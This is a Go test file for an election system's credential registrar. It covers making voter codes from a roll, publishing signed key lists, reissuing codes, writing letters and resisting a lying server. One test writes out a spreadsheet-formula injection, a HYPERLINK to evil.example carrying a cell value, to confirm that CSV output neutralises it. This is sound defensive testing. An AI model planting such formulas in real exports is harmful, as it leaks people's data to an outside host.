package postbox_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/omov/omov/fault"
	"github.com/omov/omov/postbox"
	"github.com/omov/omov/proceeding"
	"github.com/omov/omov/web/sealedtest"
)

// registrar is the credential registrar at a machine of their own.
type registrar struct {
	t    testing.TB
	path string
	page string
	said []string
}

func newRegistrar(t testing.TB) (*registrar, proceeding.Registrar) {
	t.Helper()
	r := &registrar{t: t, path: filepath.Join(t.TempDir(), "hazel.omov")}
	f, err := postbox.NewRegistrarFile(r.path, passphrase, "Hazel Quill", 1)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	x := f.Registration()
	return r, proceeding.Registrar{Name: x.Name, Key: x.Sign}
}

// run is one command.
func (r *registrar) run(do func(context.Context, *postbox.Registrar) error) error {
	r.t.Helper()
	return r.file(func(f *postbox.RegistrarFile) error {
		c, err := postbox.NewClient(r.page)
		if err != nil {
			r.t.Fatal(err)
		}
		x := postbox.NewRegistrar(f, c)
		x.Say = func(line string) { r.said = append(r.said, line) }
		return do(context.Background(), x)
	})
}

func (r *registrar) file(do func(*postbox.RegistrarFile) error) error {
	r.t.Helper()
	f, err := postbox.OpenRegistrarFile(r.path, passphrase)
	if err != nil {
		r.t.Fatal(err)
	}
	defer f.Close()
	return do(f)
}

func (r *registrar) make(roll string) error {
	r.t.Helper()
	return r.run(func(ctx context.Context, x *postbox.Registrar) error {
		lines, err := postbox.ReadRoll(strings.NewReader(roll))
		if err != nil {
			return err
		}
		return x.Make(ctx, lines)
	})
}

func (r *registrar) publish() error {
	r.t.Helper()
	return r.run(func(ctx context.Context, x *postbox.Registrar) error { return x.Publish(ctx, nil) })
}

func (r *registrar) reissue(voters ...int64) error {
	r.t.Helper()
	return r.run(func(ctx context.Context, x *postbox.Registrar) error {
		return x.Reissue(ctx, voters, "The dog ate it.")
	})
}

func (r *registrar) ok(err error) {
	r.t.Helper()
	if err != nil {
		r.t.Fatal(err)
	}
}

func (r *registrar) refuses(err error, words ...string) {
	r.t.Helper()
	for _, w := range words {
		if err == nil || !strings.Contains(err.Error(), w) {
			r.t.Fatalf("want a refusal of %q, got %v", w, err)
		}
	}
}

// codes are what stands in the letters, by voter.
func (r *registrar) codes() map[int64]string {
	r.t.Helper()
	var out bytes.Buffer
	r.ok(r.file(func(f *postbox.RegistrarFile) error {
		_, err := f.WriteMailing(r.page, &out)
		return err
	}))
	rows, err := csv.NewReader(&out).ReadAll()
	r.ok(err)
	all := map[int64]string{}
	for _, row := range rows[1:] {
		var n int64
		fmt.Sscan(row[0], &n)
		all[n] = row[3]
	}
	return all
}

// events are the lines of the registrar's log.
func (r *registrar) events() string {
	r.t.Helper()
	var out []string
	r.ok(r.file(func(f *postbox.RegistrarFile) error {
		for _, e := range f.Events() {
			out = append(out, fmt.Sprint(e.Voter, " ", e.What, " ", e.Why))
		}
		return nil
	}))
	return strings.Join(out, "\n")
}

// export is the roll as the officer's page exports it.
func export(s *sealedtest.Society, ref string) string {
	s.T.Helper()
	roll, err := s.Contests.SealedRoll(s.Ctx, ref)
	if err != nil {
		s.T.Fatal(err)
	}
	var out strings.Builder
	w := csv.NewWriter(&out)
	w.Write([]string{"voter", "name", "email", "section", "class"})
	for _, e := range roll {
		w.Write([]string{fmt.Sprint(e.Voter), e.Name, e.Email, e.Section, e.Class})
	}
	w.Flush()
	return out.String()
}

// withRegistrar is an election whose paper is fixed, with trustees and a
// registrar.
func withRegistrar(t testing.TB) (*sealedtest.Society, *registrar, []*person, string) {
	t.Helper()
	s := sealedtest.New(t, "plurality", 12)
	r, named := newRegistrar(t)
	all := trustees(t, s, 2, 2, named, "Ash", "Birch")
	ref := s.Call()
	at(all, s.Page(ref))
	r.page = s.Page(ref)
	return s, r, all, ref
}

func TestRegistrarFromRollToLetters(t *testing.T) {
	s, r, all, ref := withRegistrar(t)
	r.refuses(r.publish(), "no codes of this ballot have been made")
	r.refuses(r.reissue(1), "has not been published")
	roll := export(s, ref)
	r.ok(r.make(roll))
	r.ok(r.make(roll)) // again, and nothing happens
	r.refuses(r.make(strings.Replace(roll, "Person A", "Person Z", 1)), "by another roll")
	if l := s.Board(ref).List; l != nil {
		t.Fatalf("something was sent: %+v", l)
	}
	together(all)
	if b := s.Board(ref); b.Phase != "preparing" {
		t.Fatalf("the ballot is %s without a list", b.Phase)
	}
	r.ok(r.publish())
	r.ok(r.publish())
	b := s.Board(ref)
	if b.Phase != "open" || b.ServerRegistrar || b.List.Keys != 12 {
		t.Fatalf("the ballot is %s, its list %+v", b.Phase, b.List)
	}
	codes := r.codes()
	if len(codes) != 12 {
		t.Fatalf("%d codes", len(codes))
	}
	for i := range 8 {
		marks := []int{0, 1}
		if i < 3 {
			marks = []int{1, 0}
		}
		s.Vote(ref, codes[int64(s.Members[i])], marks...)
	}
	s.Close(ref)
	together(all)
	elected(s, ref)
	if said := strings.Join(r.said, "\n"); !strings.Contains(said, "Codes for 12 voters, 12 credentials") || !strings.Contains(said, "Your list is entry") {
		t.Errorf("the registrar was told\n%s", said)
	}
	if log := r.events(); !strings.Contains(log, "made codes for 12 voters") || !strings.Contains(log, "signed the list of 12 keys") || !strings.Contains(log, "exported 12 codes") {
		t.Errorf("the log says\n%s", log)
	}
}

func TestRollsThatAreRefused(t *testing.T) {
	s, r, _, ref := withRegistrar(t)
	roll := export(s, ref)
	lines := strings.SplitAfter(roll, "\n")
	for want, bad := range map[string]string{
		"is CSV with the heading":         "",
		`has no column "section"`:         "voter,name,email,class\n1,A,b,v1\n",
		"cannot be read any further":      lines[0] + "1,A\n",
		"is not a voter's number":         lines[0] + "x,A,a@example.org,voters,v1\n",
		`line 2 of the roll: "A�B"`:       lines[0] + "1,\"A\x01B\",a@example.org,voters,v1\n",
		"stands in line 2 already":        roll + lines[1],
		"has 11 voters in section voters": strings.Join(append([]string{lines[0]}, lines[2:]...), ""),
		"has 13 voters in section voters": roll + "999,Nobody,n@example.org,voters,v1\n",
		`in section "voters", class "v9"`: roll + "999,Nobody,n@example.org,voters,v9\n",
		"a roll of 12. Nothing was made":  lines[0],
	} {
		r.refuses(r.make(bad), want)
	}
	if r.events() != "" {
		t.Errorf("something was made: %s", r.events())
	}
	r.ok(r.make("\ufeff" + strings.ReplaceAll(roll, "\n", "\r\n"))) // as a spreadsheet saves it
}

func TestServerThatLiesToTheRegistrar(t *testing.T) {
	s, r, _, ref := withRegistrar(t)
	roll := export(s, ref)
	other, _ := newRegistrar(t)
	other.page = r.page
	other.refuses(other.make(roll), "you are not the registrar of this ballot")
	r.ok(r.make(roll))
	s.LieOfBoard(func(b map[string]any) {
		b["manifest"] = strings.Replace(b["manifest"].(string), "Person A", "Person Z", 1)
	})
	r.refuses(r.publish(), "another manifest of the election")
	s.LieOfBoard(func(b map[string]any) { b["list"] = map[string]any{"seq": 1, "keys": 12} })
	r.refuses(r.publish(), "is not your list")
	s.Lie(func(path string, b []byte) []byte {
		if strings.HasSuffix(path, "/log/key") {
			return []byte("other+00000000+AAAA")
		}
		return b
	})
	r.refuses(r.publish(), "another key than when it was first seen")
	s.Between(nil)

	// The list arrives, and the server hides it.
	s.LieOfBoard(func(b map[string]any) { b["list"] = nil })
	r.refuses(r.publish(), "took the list and does not show it")
	s.Between(nil)
	r.ok(r.publish())
}

// The list is lost on its way, then its answer is: what is sent is the same.
func TestListInterrupted(t *testing.T) {
	s, r, _, ref := withRegistrar(t)
	r.ok(r.make(export(s, ref)))
	bodies := interrupting(s, "/list")
	r.refuses(r.publish(), "does not answer")
	r.refuses(r.publish(), "does not answer")
	r.ok(r.publish())
	s.Between(nil)
	if len(*bodies) != 2 || (*bodies)[0] != (*bodies)[1] {
		t.Errorf("%d lists were sent, want the same twice", len(*bodies))
	}
}

// A registrar who goes on with an older copy of the file, or on two machines.
func TestCopiesOfARegistrarsFile(t *testing.T) {
	s, r, _, ref := withRegistrar(t)
	empty := readFile(t, r.path)
	r.ok(r.make(export(s, ref)))
	made, codes := readFile(t, r.path), r.codes()
	other := &registrar{t: t, path: filepath.Join(t.TempDir(), "laptop.omov"), page: r.page}
	writeFile(t, other.path, empty)
	other.ok(other.make(export(s, ref)))
	r.ok(r.publish())
	other.refuses(other.publish(), "a list of who may vote that is not yours")
	writeFile(t, r.path, made) // as it was before the list was signed
	r.ok(r.publish())
	if !maps.Equal(codes, r.codes()) {
		t.Error("the codes are others")
	}
	writeFile(t, r.path, empty)
	r.refuses(r.make(export(s, ref)), "has a list of who may vote already")
}

// interrupting loses what is posted to an end of the address: first on its way,
// then the answer.
func interrupting(s *sealedtest.Society, end string) *[]string {
	var bodies []string
	s.Between(func(w http.ResponseWriter, r *http.Request, server http.Handler) {
		if !strings.HasSuffix(r.URL.Path, end) {
			server.ServeHTTP(w, r)
			return
		}
		b, again := copied(r)
		bodies = append(bodies, string(b))
		if len(bodies) == 2 {
			server.ServeHTTP(httptest.NewRecorder(), again)
		}
		if len(bodies) <= 2 {
			panic(http.ErrAbortHandler)
		}
		server.ServeHTTP(w, again)
	})
	return &bodies
}

func TestReissue(t *testing.T) {
	s, r, all, ref := withRegistrar(t)
	r.ok(r.make(export(s, ref)))
	r.ok(r.publish())
	together(all)
	before := r.codes()
	voter := func(i int) int64 { return int64(s.Members[i]) }
	for i := range 6 {
		s.Vote(ref, before[voter(i)], 0, 1)
	}
	r.refuses(r.reissue(4711), "the roll of this ballot has no voter 4711")
	r.refuses(r.reissue(voter(0)), "the code was not replaced, and the old one holds")
	if got := r.codes()[voter(0)]; got != before[voter(0)] {
		t.Error("a code with which a paper was cast has been replaced")
	}
	bodies := interrupting(s, "/change")
	r.refuses(r.reissue(voter(7), voter(6)), "does not answer")
	if r.codes()[voter(6)] != before[voter(6)] {
		t.Error("a code was replaced that the log still has")
	}
	r.refuses(r.reissue(voter(6), voter(7)), "does not answer")
	r.ok(r.reissue(voter(8))) // finds the other in the log
	s.Between(nil)
	if len(*bodies) != 3 || (*bodies)[0] != (*bodies)[1] || (*bodies)[1] == (*bodies)[2] {
		t.Errorf("%d changes were sent", len(*bodies))
	}
	s.LieOfBoard(func(b map[string]any) { b["list"] = nil })
	r.refuses(r.publish(), "give another list than you have signed")
	s.Between(nil)
	after := r.codes()
	for i := range 12 {
		if is, want := after[voter(i)] != before[voter(i)], i >= 6 && i <= 8; is != want {
			t.Errorf("member %d: code replaced: %v", i, is)
		}
	}
	if b := s.Board(ref); b.List.Changes != 2 || b.List.Keys != 12 {
		t.Errorf("the list is %+v", b.List)
	}
	s.Vote(ref, after[voter(6)], 1, 0)
	s.Vote(ref, after[voter(8)], 1, 0)
	s.Close(ref)
	together(all) // trustees judge the changes as well
	elected(s, ref)
	for _, w := range []string{"made a new code The dog ate it.", "the new code holds, by entry", "the code was not replaced"} {
		if log := r.events(); !strings.Contains(log, w) {
			t.Errorf("the log does not say %q:\n%s", w, log)
		}
	}
}

// The same code once more, where the letter alone was lost.
func TestLetterAgain(t *testing.T) {
	s, r, _, ref := withRegistrar(t)
	r.ok(r.make(export(s, ref)))
	code := r.codes()[int64(s.Members[3])]
	var letter []byte
	r.ok(r.file(func(f *postbox.RegistrarFile) (err error) {
		letter, err = f.Again("", int64(s.Members[3]), "The post lost it.", "")
		return err
	}))
	if !bytes.Contains(letter, []byte(code)) || !bytes.Contains(letter, []byte("Person D")) {
		t.Errorf("the letter is\n%s", letter)
	}
	r.refuses(r.file(func(f *postbox.RegistrarFile) error { _, err := f.Again("", 4711, "Why not.", ""); return err }), "no voter 4711")
	r.refuses(r.file(func(f *postbox.RegistrarFile) error { _, err := f.Again("", int64(s.Members[3]), " ", ""); return err }), "say why")
	if log := r.events(); !strings.Contains(log, "wrote this letter alone The post lost it.") {
		t.Errorf("the log says\n%s", log)
	}
}

func TestLetters(t *testing.T) {
	s, r, _, ref := withRegistrar(t)
	r.refuses(r.file(func(f *postbox.RegistrarFile) error { _, err := f.WriteMailing("", &bytes.Buffer{}); return err }), "has no codes yet")
	roll := export(s, ref)
	r.ok(r.make(strings.Replace(roll, "Person B", `=HYPERLINK("https://evil.example/?"&D3)`[:10]+"x", 1)))
	letters := map[string]string{}
	write := func(text string) error {
		return r.file(func(f *postbox.RegistrarFile) error {
			_, err := f.WriteLetters(r.page, text, func(name string, b []byte) error {
				letters[name] = string(b)
				return nil
			})
			return err
		})
	}
	r.ok(write(""))
	one := letters[fmt.Sprintf("voter-%d.txt", s.Members[0])]
	code := r.codes()[int64(s.Members[0])]
	for _, w := range []string{"Dear Person A,", code, r.page, "Give the code to nobody", "Hazel Quill, credential registrar", "What it does not do"} {
		if !strings.Contains(one, w) {
			t.Errorf("the letter does not say %q:\n%s", w, one)
		}
	}
	if len(letters) != 12 || strings.Contains(one, "You vote in") {
		t.Errorf("%d letters; %s", len(letters), one)
	}
	r.ok(write("{{.Voter}} {{.Email}}: {{.Code}}"))
	r.refuses(write("Dear {{.Name}}"), "nobody could vote by it")
	r.refuses(write("{{.Nonsense}} {{.Code}}"), "its fields are")
	r.refuses(write("{{.Code"), "cannot be written")
	var table bytes.Buffer
	r.ok(r.file(func(f *postbox.RegistrarFile) error { _, err := f.WriteMailing("", &table); return err }))
	if !strings.Contains(table.String(), ",'=HYPERLINKx,") && !strings.Contains(table.String(), ",'=HYPERLINx,") {
		t.Errorf("a name that a spreadsheet would compute:\n%s", table.String())
	}
	r.refuses(r.file(func(f *postbox.RegistrarFile) error {
		_, err := f.WriteMailing(s.Page("2026-X-001"), &table)
		return err
	}), "has no codes of the ballot")
}

// Somebody stops standing before the opening: the paper is fixed anew, and who
// had a code keeps it.
func TestCodesOutliveANewPaper(t *testing.T) {
	s := sealedtest.New(t, "plurality", 12)
	r, named := newRegistrar(t)
	all := trustees(t, s, 2, 2, named, "Ash", "Birch")
	ref := s.CallWith(3)
	at(all, s.Page(ref))
	r.page = s.Page(ref)
	r.ok(r.make(export(s, ref)))
	r.ok(r.publish())
	before := r.codes()
	all[0].works()
	if _, err := s.Contests.Do(s.Ctx, ref, proceeding.Withdraw{By: proceeding.Actor{Person: s.Members[2]}}); err != nil {
		t.Fatal(err)
	}
	s.Pass(s.Chamber.Now().UnixMilli())
	if b := s.Board(ref); !strings.Contains(b.Manifest, ref+".vote.1.2") || b.List != nil {
		t.Fatalf("the paper was not fixed anew: %s", b.Manifest)
	}
	r.refuses(r.publish(), "no codes of this ballot have been made")
	r.ok(r.make(export(s, ref)))
	r.ok(r.publish())
	if after := r.codes(); !maps.Equal(before, after) {
		t.Error("codes have changed")
	}
	together(all)
	for i := range 6 {
		s.Vote(ref, before[int64(s.Members[i])], 0, 1)
	}
	s.Close(ref)
	together(all)
	elected(s, ref)
}

func TestCodeShape(t *testing.T) {
	s, r, _, ref := withRegistrar(t)
	r.ok(r.make(export(s, ref)))
	shape := regexp.MustCompile(`^([0-9A-Z]{5}-){5}[0-9A-Z]{5}$`)
	var all []string
	for v, c := range r.codes() {
		if !shape.MatchString(c) {
			t.Errorf("voter %d has %q", v, c)
		}
		all = append(all, c)
	}
	slices.Sort(all)
	if len(slices.Compact(all)) != 12 {
		t.Error("two voters have one code")
	}
}

func TestRegistrarsFile(t *testing.T) {
	r, _ := newRegistrar(t)
	if _, err := postbox.OpenRegistrarFile(r.path, "some other passphrase"); !fault.Is(err, fault.NotEntitled) {
		t.Errorf("another passphrase: %v", err)
	}
	if _, err := postbox.OpenTrusteeFile(r.path, passphrase); !fault.Is(err, fault.Invalid) {
		t.Errorf("a registrar's file as a trustee's: %v", err)
	}
	if _, err := postbox.NewRegistrarFile(r.path, passphrase, "Hazel", 1); !fault.Is(err, fault.Already) {
		t.Errorf("over an old one: %v", err)
	}
	for _, name := range []string{"", "a|b", "a\nb", strings.Repeat("x", 201)} {
		if _, err := postbox.NewRegistrarFile(r.path+"2", passphrase, name, 1); !fault.Is(err, fault.Invalid) {
			t.Errorf("the name %q: %v", name, err)
		}
	}
}
